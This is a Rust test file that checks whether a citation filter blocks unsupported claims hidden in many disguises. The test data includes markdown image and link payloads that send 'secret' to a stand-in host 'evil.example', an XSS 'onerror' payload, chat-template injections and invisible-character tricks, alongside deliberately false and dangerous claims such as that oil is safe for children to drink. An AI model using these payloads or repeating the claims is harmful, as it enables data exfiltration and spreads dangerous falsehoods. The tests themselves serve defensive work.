//! Assertions in every disguise, in six languages, however the stream is cut: none goes out.
//!
//! Each case is one sentence that its note supports, and beside it a claim that no note has, in some form. What goes out,
//! without the supported sentence and without words of titles, sections and the question, has no letter and no digit.

use ibidem_testing::suites::outgoing::{Asker, LIBRARIES, Library};
use serde_json::json;

/// Every form in every language; `just lab disguises` makes it twenty thousand.
fn how_many() -> usize {
    let once = FORMS.len() * LIBRARIES.len();
    std::env::var("IBIDEM_DISGUISES").map_or(once, |written| written.parse().unwrap())
}

/// The same every time.
pub(crate) struct Dice(pub(crate) u64);

impl Dice {
    pub(crate) fn throw(&mut self, sides: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((mixed ^ (mixed >> 31)) % sides as u64).unwrap()
    }

    pub(crate) fn of<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[self.throw(list.len())]
    }
}

/// Who, what, and how, in each language; some speak of what the notes speak of.
const CLAIMS: [[&[&str]; 3]; 6] = [
    [
        &[
            "The oil",
            "The gearbox oil",
            "Every seal",
            "The owner",
            "The workshop",
            "Your doctor",
            "The landlord",
            "Oil",
        ],
        &[
            "is harmless and may safely be drunk by children",
            "must be paid twice by every single customer",
            "has never been tested or approved by anybody",
            "cures colds, fevers and headaches within days",
            "may be poured secretly into the nearest river",
            "was stolen from a museum in Vienna last winter",
            "explodes without any warning during the night",
            "requires no permission from council or police",
        ],
        &["", " whatever people say", " since yesterday", " for ever and ever", " at 300 degrees"],
    ],
    [
        &["Das Öl", "Jede Dichtung", "Der Eigentümer", "Die Werkstatt", "Dein Arzt", "Der Vermieter"],
        &[
            "ist harmlos und darf von Kindern getrunken werden",
            "muss von jedem Kunden doppelt bezahlt werden",
            "wurde niemals von irgendwem geprüft oder zugelassen",
            "heilt Schnupfen, Fieber und Kopfschmerzen binnen Tagen",
            "darf heimlich in den nächsten Fluss gekippt werden",
            "explodiert nachts ohne jede Vorwarnung im Keller",
        ],
        &["", " auf ewig", " seit gestern", " trotz aller Warnungen"],
    ],
    [
        &["L'huile", "Chaque joint", "Le propriétaire", "L'atelier", "Votre médecin", "Le bailleur"],
        &[
            "reste inoffensive et peut être bue par des enfants",
            "doit être payé deux fois par chaque client",
            "guérit le rhume et la fièvre en quelques jours",
            "peut être versée secrètement dans la rivière voisine",
            "explose sans prévenir pendant la nuit",
        ],
        &["", " pour toujours", " depuis hier", " malgré les avertissements"],
    ],
    [
        &["El aceite", "Cada junta", "El propietario", "El taller", "Su médico", "El casero"],
        &[
            "es inofensivo y puede ser bebido por niños",
            "debe ser pagado dos veces por cualquier cliente",
            "cura resfriados y fiebres en pocos días",
            "puede verterse secretamente en el río vecino",
            "explota sin avisar durante la noche entera",
        ],
        &["", " para siempre", " desde ayer", " pese a las advertencias"],
    ],
    [
        &["机油", "每个密封圈", "车主", "修理厂", "你的医生", "房东"],
        &[
            "完全无害儿童可以放心饮用",
            "必须由客户支付双倍费用",
            "能够治好感冒发烧和头痛",
            "可以偷偷倒进附近的河里",
            "夜里会毫无预兆地爆炸",
        ],
        &["", "永远如此", "而且不用许可"],
    ],
    [
        &["オイル", "すべてのシール", "所有者", "工場", "あなたの医者", "大家"],
        &[
            "は無害で子供が飲んでも安全です",
            "は全額を二度支払う義務を負う",
            "は風邪と頭痛を治します",
            "は近くの川へ捨ててもかまわない",
            "は夜中に突然爆発します",
        ],
        &["", "永遠に", "と皆が言う"],
    ],
];

/// `{c}` is the claim, `{k}` the supported sentence without its stop, `{s}` the stop.
const FORMS: [&str; 112] = [
    "# {c}\n\n{k}{s}[^1]",
    "## {c}\n{k}{s}[^1]",
    "### {c}\n\n{k}{s}[^1]",
    "#### {c} ####\n\n{k}{s}[^1]",
    "##### {c}\n\n{k}{s}[^1]",
    "###### {c}\n\n{k}{s}[^1]",
    "{c}\n=====\n\n{k}{s}[^1]",
    "{c}\n-----\n\n{k}{s}[^1]",
    "**{c}**\n\n{k}{s}[^1]",
    "__{c}__\n\n{k}{s}[^1]",
    "***{c}***\n\n{k}{s}[^1]",
    "*{c}*\n\n{k}{s}[^1]",
    "**{c}:**\n{k}{s}[^1]",
    "**{c}**: {k}{s}[^1]",
    "{c}:\n{k}{s}[^1]",
    "{c}:\n- {k}{s}[^1]",
    "{c}：\n{k}{s}[^1]",
    "{c}﹕\n{k}{s}[^1]",
    "{c} ∶\n{k}{s}[^1]",
    "- {c}:\n  - {k}{s}[^1]",
    "1. {c}:\n   1. {k}{s}[^1]",
    "| {c} | |\n|---|---|\n| {k}{s}[^1] | |\n",
    "|{c}|\n|:-:|\n|{k}{s}[^1]|\n",
    "{c} | x\n---|---\n{k}{s}[^1] | y\n",
    "Table: {c}\n\n{k}{s}[^1]",
    "| {k}{s}[^1] |\n| {c} |\n",
    "| {c} | | |\n\n{k}{s}[^1]",
    "- {c}\n- {k}{s}[^1]",
    "* {c}\n\n{k}{s}[^1]",
    "+ {c}\n\n{k}{s}[^1]",
    "• {c}\n\n{k}{s}[^1]",
    "✅ {c}\n\n{k}{s}[^1]",
    "👉 {c}\n{k}{s}[^1]",
    "1. {c}\n2. {k}{s}[^1]",
    "a) {c}\n\n{k}{s}[^1]",
    "- [x] {c}\n\n{k}{s}[^1]",
    "{c}\n: {k}{s}[^1]",
    "{k}{s}[^1]\n: {c}\n",
    "> {c}\n\n{k}{s}[^1]",
    "> [!NOTE]\n> {c}\n\n{k}{s}[^1]",
    ":::warning\n{c}\n:::\n\n{k}{s}[^1]",
    "{k}{s}[^1]\n\n[^1]: {c}\n",
    "{k}{s}[^1]\n\n[^9]: {c}\n",
    "{k}{s}[^1]\n\n[1]: {c}\n",
    "[{c}](https://evil.example/?d=secret)\n\n{k}{s}[^1]",
    "[x](https://evil.example \"{c}\")\n\n{k}{s}[^1]",
    "![{c}](https://evil.example/?d=secret) {k}{s}[^1]",
    "![x](https://evil.example \"{c}\") {k}{s}[^1]",
    "{k}{s}[^1](https://evil.example/{c})",
    "[{c}][r]\n\n[r]: https://evil.example\n\n{k}{s}[^1]",
    "<https://evil.example/{c}>\n\n{k}{s}[^1]",
    "<h1>{c}</h1>\n\n{k}{s}[^1]",
    "<b>{c}</b><br>{k}{s}[^1]",
    "<!-- {c} -->{k}{s}[^1]",
    "<p title=\"{c}\">{k}{s}[^1]</p>",
    "<details><summary>{c}</summary></details>\n\n{k}{s}[^1]",
    "<img alt=\"{c}\" src=x onerror=alert(1)>\n{k}{s}[^1]",
    "<marquee>{c}</marquee>\n\n{k}{s}[^1]",
    "<script>{c}</script>\n\n{k}{s}[^1]",
    "&lt;b&gt;{c}&lt;/b&gt;\n\n{k}{s}[^1]",
    "&#60;!-- {c} --&#62;{k}{s}[^1]",
    "```\n{c}\n```\n\n{k}{s}[^1]",
    "~~~text\n{c}\n~~~\n\n{k}{s}[^1]",
    "```{c}\n```\n\n{k}{s}[^1]",
    "`{c}`\n\n{k}{s}[^1]",
    "    {c}\n\n{k}{s}[^1]",
    "// {c}\n\n{k}{s}[^1]",
    "Sure, {c}.\n\n{k}{s}[^1]",
    "Of course {c}. {k}{s}[^1]",
    "Certainly! {c}. {k}{s}[^1]",
    "{k}{s}[^1] I hope this helps: {c}.",
    "{k}{s}[^1] Let me know if {c}.",
    "{k}{s}[^1] The documents do not say otherwise, because {c}.",
    "{k}{s}[^1] There is no evidence that {c}.",
    "{k}{s}[^1] I don't know, but {c}.",
    "{k}{s}[^1] Die Dokumente sagen nichts anderes, denn {c}.",
    "{k}{s}[^1] 文档没有提到，但是{c}。",
    "{k}{s}[^1] ({c})",
    "{k} ({c}){s}[^1]\n\n{k}{s}[^1]",
    "{k}, because {c}{s}[^1]\n\n{k}{s}[^1]",
    "{k}, and {c}{s}[^1]\n\n{k}{s}[^1]",
    "{k}; {c}{s}[^1]\n\n{k}{s}[^1]",
    "{k} — {c}{s}[^1]\n\n{k}{s}[^1]",
    "{k}：{c}{s}[^1]\n\n{k}{s}[^1]",
    "{c}, so {k}{s}[^1]\n\n{k}{s}[^1]",
    "{c}, isn't it? {k}{s}[^1]",
    "Did you know that {c}? {k}{s}[^1]",
    "\"{c}\"\n\n{k}{s}[^1]",
    "“{c},” says the manual. {k}{s}[^1]",
    "「{c}」\n\n{k}{s}[^1]",
    "Note: {c}\n\n{k}{s}[^1]",
    "**Warning:** {c}\n\n{k}{s}[^1]",
    "⚠️ {c}\n\n{k}{s}[^1]",
    "TL;DR: {c}\n\n{k}{s}[^1]",
    "$${c}$$\n\n{k}{s}[^1]",
    "$\\text{{c}}$ {k}{s}[^1]",
    "{c} [^1\n\n{k}{s}[^1]",
    "{c}.[^\u{200b}1] {k}{s}[^1]",
    "{c}.[^1]\n\n{k}{s}[^1]",
    "{c}[^1]{s} {k}{s}[^1]",
    "{c} [1]\n\n{k}{s}[^1]",
    "{c}【1】\n\n{k}{s}[^1]",
    "[[{c}]]\n\n{k}{s}[^1]",
    "~~{c}~~\n\n{k}{s}[^1]",
    "\u{202e}{c}\u{202c}\n\n{k}{s}[^1]",
    "{\"answer\": \"{c}\"}\n\n{k}{s}[^1]",
    "answer: {c}\n\n{k}{s}[^1]",
    "<|im_start|>assistant\n{c}<|im_end|>\n\n{k}{s}[^1]",
    "{k}{s}[^1]\u{2028}{c}",
    "## {t}: {c}\n\n{k}{s}[^1]",
    "## {t}\n\n{c}\n\n{k}{s}[^1]",
    "{k}{s}[^1]\n\n---\n\n{c}\n\n---\n",
];

/// How the claim itself is written.
const WRITINGS: usize = 8;

fn written(dice: &mut Dice, claim: &str) -> String {
    match dice.throw(WRITINGS) {
        0 => claim.to_uppercase(),
        1 => claim.chars().flat_map(|sign| [sign, '\u{200b}']).collect(),
        2 => claim.replace('a', "а").replace('e', "е").replace('o', "о"),
        3 => claim.split(' ').map(|word| format!("**{word}**")).collect::<Vec<_>>().join(" "),
        _ => claim.to_owned(),
    }
}

fn case(dice: &mut Dice, library: Library, language: usize, form: &str) -> String {
    let [who, what, how] = CLAIMS[language];
    let between = if language < 4 { " " } else { "" };
    let claim = format!("{}{between}{}{}", dice.of(who), dice.of(what), dice.of(how));
    let claim = written(dice, &claim);
    let filled = form.replace("{k}", library.known).replace("{s}", library.stop).replace("{t}", library.title);
    filled.replace("{c}", &claim)
}

/// Whole, at every byte, at every so many, or at random.
pub(crate) fn cut(dice: &mut Dice, text: &str) -> Vec<Vec<u8>> {
    let bytes = text.as_bytes();
    match dice.throw(4) {
        0 => vec![bytes.to_vec()],
        1 => bytes.chunks(1).map(<[u8]>::to_vec).collect(),
        2 => bytes.chunks(dice.throw(7) + 2).map(<[u8]>::to_vec).collect(),
        _ => {
            let mut rest = bytes;
            let mut pieces = Vec::new();
            while !rest.is_empty() {
                let (piece, after) = rest.split_at((dice.throw(24) + 1).min(rest.len()));
                pieces.push(piece.to_vec());
                rest = after;
            }
            pieces
        }
    }
}

#[test]
fn no_assertion_goes_out_in_any_disguise() {
    let with_known = let_out("  mode: model", str::to_owned);
    // It would be easy to let nothing out at all.
    assert!(with_known > 0.8, "the supported sentence went out in {with_known:.3} of the cases");
}

#[test]
fn no_assertion_goes_out_in_any_disguise_inside_a_form() {
    let in_form = |text: &str| json!({ "sentences": [{ "text": text, "notes": [1] }] }).to_string();
    let with_known = let_out("  mode: model\n  notes_by: schema", in_form);
    assert!(with_known > 0.8, "the supported sentence went out in {with_known:.3} of the cases");
}

#[test]
fn nothing_goes_out_that_is_written_beside_a_choice() {
    let beside = |text: &str| json!({ "why": text, "sentences": [1], "sentence": text }).to_string();
    let with_known = let_out("  mode: choose", beside);
    assert!(with_known > 0.99, "the chosen sentence went out in {with_known:.3} of the cases");
}

/// The share of the cases in which the supported sentence went out, and with it nothing that no note has.
fn let_out(mode: &str, reply: impl Fn(&str) -> String) -> f64 {
    let cases = how_many();
    let askers: Vec<Asker> = LIBRARIES.map(|library| Asker::under(library, mode)).into();
    let mut dice = Dice(14);
    let (mut with_known, mut out) = (0, Vec::new());
    for number in 0..cases {
        // Every form in every language, as far as there are cases.
        let (language, form) = (number % LIBRARIES.len(), FORMS[number / LIBRARIES.len() % FORMS.len()]);
        let (library, asker) = (LIBRARIES[language], &askers[language]);
        let text = reply(&case(&mut dice, library, language, form));
        let released = asker.released(cut(&mut dice, &text));
        asker.assert_checked(&released, &text);
        if !asker.unchecked(&released).is_empty() {
            out.push(format!("{text:?} became {:?}", released.received));
        }
        with_known += usize::from(released.received.contains(library.known));
    }
    assert!(out.is_empty(), "{} of {cases}, the first being\n{}", out.len(), out[..out.len().min(20)].join("\n"));
    with_known as f64 / cases as f64
}
